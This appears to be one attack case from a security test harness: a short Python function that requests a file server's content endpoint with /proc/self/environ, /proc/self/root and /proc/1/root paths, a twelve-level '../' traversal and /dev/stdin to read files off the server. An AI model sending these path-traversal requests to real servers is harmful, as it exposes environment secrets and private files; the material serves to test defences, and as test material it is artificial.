# aim: read a file of the server's machine
# mechanism: what /proc has of the server itself
# server: files
# plain: naive

def attack():
    for path in ("/proc/self/environ", "/proc/self/root" + secret_path, "/proc/1/root" + secret_path, "/proc/self/cwd/" + "../" * 12 + secret_path, "/dev/stdin"):
        answer = ask("GET", f"{here}/files/content?path={quote(path)}")
        if answer.is_good and answer.body:
            return f"{path}: {answer.body[:100]!r}"


judge(attack)
